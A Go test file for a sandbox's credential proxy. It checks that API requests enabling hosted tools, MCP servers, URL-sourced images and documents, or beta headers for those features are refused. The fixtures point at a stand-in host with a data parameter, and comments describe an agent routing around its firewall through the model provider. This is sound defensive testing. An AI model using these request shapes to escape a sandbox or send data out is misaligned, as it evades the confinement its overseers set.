package credproxy

import (
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/org/claude-sandbox/internal/fakeapi"
)

// body is a request with extra members.
func body(members string) string {
	return `{"model":"m","messages":[{"role":"user","content":"hi"}]` + members + `}`
}

func said(content string) string {
	return `{"model":"m","messages":[{"role":"user","content":[` + content + `]}]}`
}

const search = `{"type":"web_search_20250305","name":"web_search"}`

var hostedRequests = map[string]string{
	"mcp server":               body(`,"mcp_servers":[{"type":"url","url":"https://evil.example/mcp"}]`),
	"mcp server, escaped name": body(`,"mcp\u005fservers":[{"type":"url","url":"https://evil.example/mcp"}]`),
	"mcp server, other case":   body(`,"MCP_Servers":[{}]`),
	"hosted container":         body(`,"container":{"skills":[]}`),
	"web fetch":                body(`,"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]`),
	"web search":               body(`,"tools":[{"name":"Bash","input_schema":{}},` + search + `]`),
	"web search with a schema": body(`,"tools":[{"type":"web_search_20250305","name":"x","input_schema":{}}]`),
	"code execution":           body(`,"tools":[{"type":"code_execution_20250825","name":"code_execution"}]`),
	"mcp toolset":              body(`,"tools":[{"type":"mcp_toolset","mcp_server_name":"x"}]`),
	"a type yet unknown":       body(`,"tools":[{"type":"teleport_20270101","name":"x"}]`),
	"a client tool's name":     body(`,"tools":[{"type":"bash_web_fetch","name":"x"}]`),
	"tools twice":              body(`,"tools":[` + search + `],"tools":[]`),
	"tools twice, escaped":     body(`,"tools":[],"tool\u0073":[` + search + `]`),
	"tools, other case":        body(`,"Tools":[` + search + `]`),
	"image by url":             said(`{"type":"image","source":{"type":"url","url":"https://evil.example/?data"}}`),
	"document by url":          said(`{"type":"document","source":{"type":"url","url":"https://evil.example/?data"}}`),
	"document by file":         said(`{"type":"document","source":{"type":"file","file_id":"f"}}`),
	"image in a tool's result": said(
		`{"type":"tool_result","tool_use_id":"t","content":[{"type":"image","source":{"type":"url","url":"https://evil.example"}}]}`),
	"image in a document": said(
		`{"type":"document","source":{"type":"content","content":[{"type":"image","source":{"type":"url","url":"https://evil.example"}}]}}`),
	"source twice":             said(`{"type":"image","source":{"type":"url","url":"https://evil.example"},"source":{"type":"base64"}}`),
	"container upload":         said(`{"type":"container_upload","file_id":"f"}`),
	"tool added by a message":  `{"model":"m","messages":[{"role":"system","content":[{"type":"tool_addition","tool":` + search + `}]}]}`,
	"tools in a message":       `{"model":"m","messages":[{"role":"system","tools":[` + search + `]}]}`,
	"image in the system text": `{"model":"m","messages":[],"system":[{"type":"image","source":{"type":"url","url":"https://evil.example"}}]}`,
	"two texts":                body("") + body(`,"mcp_servers":[{}]`),
	"no UTF-8":                 body(",\"a\xff\":1"),
	"no JSON":                  `{"model":`,
	"no object":                `[]`,
	"too many values":          body(`,"x":[` + strings.Repeat("[],", 600_000) + `0]`),
	"nested without end":       body(`,"x":` + strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000)),

	// Members and types that nobody looked at, and other spellings of listed ones.
	"skills":                     body(`,"skills":[{"type":"anthropic","skill_id":"x"}]`),
	"betas in the body":          body(`,"betas":["mcp-client-2025-11-20"]`),
	"a thread, which is kept":    body(`,"thread":{"type":"create"}`),
	"fallbacks to other models":  body(`,"fallbacks":[{"model":"claude-opus-4-1"}]`),
	"a profile of a user":        body(`,"user_profile_id":"x"`),
	"a member yet unknown":       body(`,"teleport":null`),
	"fast, at another price":     body(`,"speed":"fast"`),
	"a dearer tier":              body(`,"service_tier":"priority"`),
	"a dearer place":             body(`,"inference_geo":"us"`),
	"source, other case":         said(`{"type":"image","Source":{"type":"url","url":"https://evil.example"}}`),
	"source twice, by case":      said(`{"type":"image","source":{"type":"base64"},"SOURCE":{"type":"url","url":"https://evil.example"}}`),
	"type of a source, by case":  said(`{"type":"image","source":{"type":"base64","TYPE":"url","url":"https://evil.example"}}`),
	"url in an inline source":    said(`{"type":"image","source":{"type":"base64","data":"","url":"https://evil.example"}}`),
	"type of a tool, other case": body(`,"tools":[{"TYPE":"web_search_20250305","name":"x","input_schema":{}}]`),
	"type of a tool, by number":  body(`,"tools":[{"type":1,"name":"x","input_schema":{}}]`),
	"bash at the provider":       body(`,"tools":[{"type":"bash_code_execution_20250825","name":"x"}]`),
	"editor at the provider":     body(`,"tools":[{"type":"text_editor_code_execution_20250825","name":"x"}]`),
	"called from the provider":   body(`,"tools":[{"name":"x","input_schema":{},"allowed_callers":["code_execution_20260120"]}]`),
	"a later bash":               body(`,"tools":[{"type":"bash_20301231","name":"x"}]`),
	"advisor":                    body(`,"tools":[{"type":"advisor_20260301","name":"advisor","model":"claude-opus-4-1"}]`),
	"result of hosted bash":      said(`{"type":"bash_code_execution_tool_result","tool_use_id":"t","content":{}}`),
	"mcp call":                   said(`{"type":"mcp_tool_use","id":"t","name":"x","server_name":"s","input":{}}`),
	"hosted call":                said(`{"type":"server_tool_use","id":"t","name":"web_fetch","input":{"url":"https://evil.example"}}`),
	"a part yet unknown":         said(`{"type":"teleport","to":"x"}`),
	"a part without a type":      said(`{"text":"hi"}`),
	"a part in a list":           said(`[{"type":"text","text":"hi"}]`),
	"hosted tool by a definition": `{"model":"m","messages":[{"role":"system","content":[{"type":"tool_addition",` +
		`"tool":{"type":"tool_definition","definition":` + search + `}}]}]}`,
	"mcp toolset by a change": `{"model":"m","messages":[{"role":"system","content":[{"type":"tool_addition",` +
		`"tool":{"type":"mcp_toolset_reference","name":"x"}}]}]}`,
	"a role yet unknown":     `{"model":"m","messages":[{"role":"provider","content":"x"}]}`,
	"an edit yet unknown":    body(`,"context_management":{"edits":[{"type":"archive_20270101"}]}`),
	"a number's odd form":    body(`,"max_tokens":01`),
	"a comma too many":       body(`,"stop_sequences":["a",]`),
	"a bare word":            body(`,"stream":True`),
	"an escape that is none": body(`,"stop_sequences":["\x41"]`),
	"a control character":    body(",\"stop_sequences\":[\"\x01\"]"),
}

// Attack: the firewall is tight, so the agent has the model's provider fetch
// pages or call servers for it.
func TestTheProviderFetchesNothingForTheAgent(t *testing.T) {
	api := &fakeapi.Server{}
	f := newFixture(t, api, nil)
	for name, text := range hostedRequests {
		for _, path := range []string{"/v1/messages", "/v1/messages/count_tokens"} {
			wantRefusal(t, name, f.do(t, http.MethodPost, path, text, "X-Api-Key", testToken), http.StatusBadRequest)
		}
	}
	if n := len(api.Requests()); n != 0 {
		t.Errorf("%d requests reached the upstream", n)
	}
	if n := f.proxy.buffered.Load(); n != 0 {
		t.Errorf("%d bytes stay reserved", n)
	}
	got := f.do(t, http.MethodPost, "/v1/messages", hostedRequests["web search"], "X-Api-Key", testToken)
	if !strings.Contains(got.body, "web_search_20250305") || !strings.Contains(got.body, "the sandbox refuses") {
		t.Errorf("the refusal does not say why: %s", got.body)
	}
}

// A refusal names the member, so that whoever updates Claude Code knows what to
// report.
func TestARefusalNamesPlaceAndMember(t *testing.T) {
	f := newFixture(t, &fakeapi.Server{}, nil)
	for name, want := range map[string]string{
		"a member yet unknown": "teleport: Extra inputs are not permitted",
		"source, other case":   "messages.0.content.0.Source: Extra inputs are not permitted",
		"image by url":         `messages.0.content.0.source: a source of type \"url\"`,
		"a part yet unknown":   `messages.0.content.0: a part of type \"teleport\"`,
		"web search":           `tools.1: a tool of type \"web_search_20250305\"`,
		"a dearer tier":        "service_tier: the sandbox refuses priority; it takes auto, standard_only",
	} {
		got := f.do(t, http.MethodPost, "/v1/messages", hostedRequests[name], "X-Api-Key", testToken)
		if !strings.Contains(got.body, want) {
			t.Errorf("%s: %s", name, got.body)
		}
	}
}

func TestWhatClaudeCodeSendsPasses(t *testing.T) {
	f := newFixture(t, &fakeapi.Server{}, nil)
	for name, text := range map[string]string{
		"client tools": body(
			`,"tools":[{"name":"Bash","input_schema":{"properties":{"source":{"type":"url"}}}},{"type":"custom","name":"x","input_schema":{}},` +
				`{"type":"bash_20250124","name":"bash"}]`),
		"inline image": said(`{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA=="}}`),
		"a call whose input looks like an image": `{"model":"m","messages":[{"role":"assistant",` +
			`"content":[{"type":"tool_use","id":"t","name":"Write",
			"input":{"type":"image","source":{"type":"url"},"tools":[{"type":"web_fetch_20250910"}],"mcp_servers":{}}}]}]}`,
		"a text about it": said(`{"type":"text","text":"{\"mcp_servers\":[]}"}`),
	} {
		if got := f.do(t, http.MethodPost, "/v1/messages", text, "X-Api-Key", testToken); got.status != http.StatusOK {
			t.Errorf("%s: %d %s", name, got.status, got.body)
		}
	}
	if n := f.proxy.Answered(); n != 4 {
		t.Errorf("%d answers were counted, want 4", n)
	}
}

func TestHostedWebPassesOnlyWhenTheUserAllowsIt(t *testing.T) {
	f := newFixture(t, &fakeapi.Server{}, func(o *Options) { o.AllowHostedWeb = true })
	for name, want := range map[string]int{"web search": 200, "web fetch": 200, "code execution": 400,
		"mcp server": 400, "image by url": 400} {
		if got := f.do(t, http.MethodPost, "/v1/messages", hostedRequests[name], "X-Api-Key", testToken); got.status != want {
			t.Errorf("%s: %d, want %d", name, got.status, want)
		}
	}
}

// Attack: hosted features are switched on by the betas that name them.
func TestBetasOfHostedFeaturesAreDropped(t *testing.T) {
	api := &fakeapi.Server{}
	f := newFixture(t, api, nil)
	f.post(t, "Anthropic-Beta", "claude-code-20250219, mcp-client-2025-11-20,files-api-2025-04-14", "Anthropic-Beta",
		"web-fetch-2025-09-10,effort-2025-11-24,code-execution-2025-08-25")
	f.post(t, "Anthropic-Beta", "skills-2025-10-02")
	for i, want := range []string{"[claude-code-20250219,effort-2025-11-24]", "[]"} {
		if got := fmt.Sprint(api.Requests()[i].Header.Values("Anthropic-Beta")); got != want {
			t.Errorf("the upstream got %s, want %s", got, want)
		}
	}
}
